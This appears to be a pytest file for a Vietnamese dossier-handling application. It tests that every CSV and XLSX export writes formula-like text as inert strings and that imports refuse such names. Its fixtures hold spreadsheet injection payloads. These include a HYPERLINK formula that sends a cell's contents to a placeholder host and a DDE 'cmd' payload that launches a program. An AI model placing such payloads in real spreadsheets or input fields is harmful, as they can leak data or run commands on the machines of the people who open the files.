"""Formula injection (OWASP "CSV Injection"): no export writes a live formula, whatever the text.

Every CSV and XLSX writer is run on dossiers whose address, department, organisation name,
procedure and field hold formulas; the files are read back with openpyxl and the csv module.
"""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from onestop.db.models import Field, Procedure
from onestop.dossiers.export import dossier_rows, write_csv, write_xlsx
from onestop.dossiers.intake import IntakeRequest, save_intake
from onestop.dossiers.lifecycle import TransitionRequest, apply
from onestop.figures.figure_files import figures_text, save_figures, save_ledger
from onestop.figures.report import periodic_report
from onestop.figures.targets import cut_time_targets
from onestop.files.spreadsheet_safety import csv_cell, formula_like
from onestop.people.accounts import Actor, system_actor
from tests.conftest import ENGINES, MONDAY_0915

LATER = MONDAY_0915 + timedelta(days=30)
DAY = date(2026, 11, 23)
HYPERLINK = '=HYPERLINK("http://x.example/?d="&A2,"bam")'
DDE = "+cmd|' /C calc'!A0"
# What the counter may type where free text is allowed (address, note, department) and a
# catalogue may hold (procedure, field).
ADDRESSES = [HYPERLINK, "=1+1", "@SUM(A1)", "-2+3", "+1", "\t=1+1"]
ORG_NAMES = ["-2+3 Công ty", "+84 Hợp tác xã"]  # clean_org_name allows + and - (and digits)
PROCEDURE_NAME, FIELD_NAME = "=1+1", DDE


@pytest.fixture
def poisoned(site_db):
    db, site = site_db
    codes = []
    for i, address in enumerate(ADDRESSES):
        req = IntakeRequest(procedure_code="1.004873", name="Trần Văn Nam", id_number="001090012345",
                            address=address, received_at=MONDAY_0915)
        codes.append(save_intake(db, site, req, now=MONDAY_0915, actor=Actor.named("canbo")).code)
    for name in ORG_NAMES:
        req = IntakeRequest(procedure_code="1.004873", name=name, id_number="0101234567", applicant_kind="organisation",
                            received_at=MONDAY_0915)
        codes.append(save_intake(db, site, req, now=MONDAY_0915, actor=Actor.named("canbo")).code)
    apply(db, site, codes[0], TransitionRequest("transfer", at=MONDAY_0915 + timedelta(hours=1),
                                                to="@me"), actor=Actor.named("cb"), now=LATER)
    apply(db, site, codes[0], TransitionRequest("finish", at=MONDAY_0915 + timedelta(hours=2)), actor=Actor.named("cb"), now=LATER)
    with db.write() as s:  # a catalogue whose procedure and field are formulas (as a bad import left them)
        procedure = s.scalars(select(Procedure).where(Procedure.code == "1.004873")).one()
        s.execute(update(Procedure).where(Procedure.id == procedure.id).values(name=PROCEDURE_NAME))
        s.execute(update(Field).where(Field.id == procedure.field_id).values(name=FIELD_NAME))
    return db, site


def xlsx_cells(path: Path) -> list:
    book = load_workbook(path)  # not read-only: data_type is the cell's own
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_xlsx_safe(path: Path, expected: set[str]) -> None:
    cells = xlsx_cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # The text is kept as written (the tab-led one too), as a string cell.
    found = {t for t in expected if any(t in value for value in texts)}
    assert found == expected
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def assert_csv_safe(text: str, expected: set[str]) -> None:
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert [f for f in fields if formula_like(f)] == []
    assert {t for t in expected if any(t in f for f in fields)} == expected  # kept, after the quote


def test_csv_cell_rule():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "a=1", "", "Hà Nội")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "a=1", "", "Hà Nội"]
    assert [csv_cell(v) for v in (-2, 1.5, None, DAY)] == [-2, 1.5, None, DAY]


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
def test_dossier_export_csv_and_xlsx(poisoned, tmp_path):
    db, site = poisoned
    with db.read() as s:
        write_csv(dossier_rows(s, site.calendar), tmp_path / "d.csv")
        write_xlsx(dossier_rows(s, site.calendar), tmp_path / "d.xlsx")
    shown = {*ORG_NAMES, PROCEDURE_NAME}  # the export has no address column
    assert_csv_safe((tmp_path / "d.csv").read_text(encoding="utf-8-sig"), shown)
    assert_xlsx_safe(tmp_path / "d.xlsx", shown)
    # Times and codes are untouched.
    with (tmp_path / "d.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert all(r["received_at"].startswith("2026-11-23T09:15") for r in rows)


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
def test_ledger_xlsx(poisoned, tmp_path):
    db, site = poisoned
    path = tmp_path / "l.xlsx"
    save_ledger(db, site, DAY, DAY, "xlsx", path, LATER, system_actor("canbo"))
    assert_xlsx_safe(path, {*ORG_NAMES, PROCEDURE_NAME, "@me", HYPERLINK, "=1+1", "@SUM(A1)", "-2+3"})


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
@pytest.mark.parametrize("by", ["procedure", "field"])
def test_report_xlsx_and_csv(poisoned, tmp_path, by):
    db, site = poisoned
    with db.read() as s:
        report = periodic_report(s, site, DAY, DAY, by, now=LATER)
    name = PROCEDURE_NAME if by == "procedure" else FIELD_NAME
    save_figures(report, "xlsx", tmp_path / "r.xlsx", site, LATER)
    assert_xlsx_safe(tmp_path / "r.xlsx", {name})
    assert_csv_safe(figures_text(report, "csv"), {name})


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
def test_targets_xlsx_and_csv(poisoned, tmp_path):
    db, site = poisoned
    with db.read() as s:
        targets = cut_time_targets(s, site, DAY, DAY)
    save_figures(targets, "xlsx", tmp_path / "t.xlsx", site, LATER)
    texts = {c.value for c in xlsx_cells(tmp_path / "t.xlsx") if isinstance(c.value, str)}
    assert any(PROCEDURE_NAME in t for t in texts)
    assert_xlsx_safe(tmp_path / "t.xlsx", {PROCEDURE_NAME})
    assert_csv_safe(figures_text(targets, "csv"), {PROCEDURE_NAME})


# ------------------------------------------------------------------ imported names


def _ledger_file(path: Path, names: list[object]) -> Path:
    header = ["code", "received_at", "procedure_code", "applicant_name", "status"]
    rows = [[f"HS-{i:04d}", "2026-11-02T09:00:00+07:00", "1.004873", name, "received"]
            for i, name in enumerate(names, start=1)]
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8-sig", newline="") as fh:
            csv.writer(fh).writerows([header, *rows])
        return path
    from openpyxl import Workbook

    book = Workbook()
    for r in [header, *rows]:
        book.active.append(r)
    for r in range(2, len(rows) + 2):  # written as text, as a sheet's own cells would be
        cell = book.active.cell(row=r, column=4)
        cell.data_type = "s"
    book.save(path)
    return path


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_imported_names_are_refused_as_typed_ones(site_db, tmp_path, suffix):
    from sqlalchemy import func

    from onestop.db.models import Dossier
    from onestop.installation.dossier_import import DossierImportError, import_dossiers

    db, site = site_db
    bad = [HYPERLINK, DDE, "@SUM(1)", "\t=1+1", "Nguyễn\u202eVăn", "Lê <b>"]
    path = _ledger_file(tmp_path / f"bad{suffix}", ["Nguyễn Văn An", *bad])
    with pytest.raises(DossierImportError) as caught:
        import_dossiers(db, site, path, now=LATER, actor=Actor.named("cb.nhap"))
    problems = caught.value.problems
    assert [r for r, _ in problems] == list(range(3, 3 + len(bad))), problems
    assert all("tên người nộp" in m and "không hợp lệ" in m for _, m in problems)
    with db.read() as s:
        assert s.scalar(select(func.count(Dossier.id))) == 0  # the good row was not imported either


@pytest.mark.parametrize("database_url", ENGINES, indirect=True)
def test_imported_names_are_cleaned_as_typed_ones(site_db, tmp_path):
    from onestop.db.models import Applicant
    from onestop.installation.dossier_import import import_dossiers

    db, site = site_db
    path = _ledger_file(tmp_path / "good.xlsx", ["  nguyễn   văn  an ", "Đặng Thị D\u2019Arc",
                                                  "Công ty TNHH Xây dựng số 1", "-2+3"])
    import_dossiers(db, site, path, now=LATER, actor=Actor.named("cb.nhap"))
    with db.read() as s:
        stored = sorted(s.execute(select(Applicant.name, Applicant.kind)).all())
    # As clean_name / clean_org_name return them at the counter; "-2+3" is an organisation name
    # typed at the counter too (digits, + and -), which the exports write as text.
    assert stored == sorted([("nguyễn văn an", "person"), ("Đặng Thị D'Arc", "person"),
                             ("Công ty TNHH Xây dựng số 1", "organisation"), ("-2+3", "organisation")])


# ------------------------------------------------------------------ the command line, as the probe did it


def test_cli_every_export_of_typed_and_imported_formulas(tmp_path):
    """As the probe did it: a catalogue whose procedure and field are formulas, an address typed as
    one, then every export command; each file read back."""
    import os
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": str(root), "ONESTOP_DATA_DIR": str(tmp_path / "data")}
    url = f"sqlite:///{tmp_path / 'x.db'}"

    def onestop(*argv: str) -> subprocess.CompletedProcess:
        done = subprocess.run([sys.executable, "-m", "onestop", "--database", url, *argv], cwd=root, env=env,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, (argv, done.stderr)
        return done

    address = '=HYPERLINK("http://x","a")'
    with (tmp_path / "cat.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([
            ["code", "name", "field", "level", "statutory", "committed", "fee", "supplement_rule", "documents"],
            ["DP.F.01", PROCEDURE_NAME, "@SUM(A1)", "xã", "3 ngày", "1 ngày", "", "", "bản chính x1: Đơn"]])
    onestop("catalogue", "import", str(tmp_path / "cat.csv"))
    code = onestop("intake", "--procedure", "DP.F.01", "--name", "Trần Văn Nam", "--cccd", "001090012345",
                   "--address", address, "--at", "2026-11-23T09:15").stdout.strip().split()[-1].rstrip(".")
    onestop("dossier", code, "finish", "--at", "2026-11-23T10:15")
    period = ("--from", "2026-11-23", "--to", "2026-11-23")
    out = tmp_path / "out"
    out.mkdir()
    onestop("export", "dossiers", "--format", "csv", "-o", str(out / "d.csv"))
    onestop("export", "dossiers", "--format", "xlsx", "-o", str(out / "d.xlsx"))
    onestop("ledger", *period, "-o", str(out / "l.xlsx"))
    for by in ("procedure", "field"):
        onestop("report", *period, "--by", by, "--format", "xlsx", "-o", str(out / f"r-{by}.xlsx"))
        onestop("report", *period, "--by", by, "--format", "csv", "-o", str(out / f"r-{by}.csv"))
    onestop("targets", *period, "--format", "xlsx", "-o", str(out / "t.xlsx"))
    onestop("targets", *period, "--format", "csv", "-o", str(out / "t.csv"))
    expected = {"d": {PROCEDURE_NAME}, "l": {PROCEDURE_NAME, address}, "r-procedure": {PROCEDURE_NAME},
                "r-field": {"@SUM(A1)"}, "t": {PROCEDURE_NAME}}
    for path in sorted(out.iterdir()):
        if path.suffix == ".xlsx":
            assert_xlsx_safe(path, expected[path.stem])
        else:
            assert_csv_safe(path.read_text(encoding="utf-8-sig"), expected[path.stem])
    assert len(list(out.iterdir())) == 9


def test_cli_ledger_of_a_typed_formula_address(tmp_path):
    import os
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": str(root), "ONESTOP_DATA_DIR": str(tmp_path / "data")}
    url = f"sqlite:///{tmp_path / 'x.db'}"

    def onestop(*argv: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "onestop", "--database", url, *argv], cwd=root, env=env,
                              capture_output=True, text=True, timeout=120)

    done = onestop("intake", "--procedure", "1.004873", "--name", "Trần Văn Nam", "--cccd", "001090012345",
                   "--address", '=HYPERLINK("http://x","a")', "--at", "2026-11-23T09:15")
    assert done.returncode == 0, done.stderr
    done = onestop("ledger", "--from", "2026-11-23", "--to", "2026-11-23", "-o", str(tmp_path / "l.xlsx"))
    assert done.returncode == 0, done.stderr
    assert_xlsx_safe(tmp_path / "l.xlsx", {'=HYPERLINK("http://x","a")'})
